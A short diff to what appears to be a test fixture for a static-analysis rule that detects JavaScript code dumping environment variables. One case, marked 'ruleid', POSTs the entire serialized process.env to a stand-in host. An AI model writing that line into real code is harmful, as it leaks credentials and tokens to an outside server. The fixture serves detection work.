@@ -12,3 +12,11 @@ export async function report(url: string) {
   // ok: js-environment-dump
   execFileSync("make", ["test"], { env: { ...process.env, TZ: "UTC" } });
 }
+
+export async function relay(file: object) {
+  const variables = { ...file, ...process.env } as Record<string, string>;
+  // ok: js-environment-dump
+  await fetch("https://api.example.com", { method: "POST", body: variables.EXAMPLE_NAME });
+  // ruleid: js-environment-dump
+  await fetch("https://api.example.com", { method: "POST", body: JSON.stringify(variables) });
+}
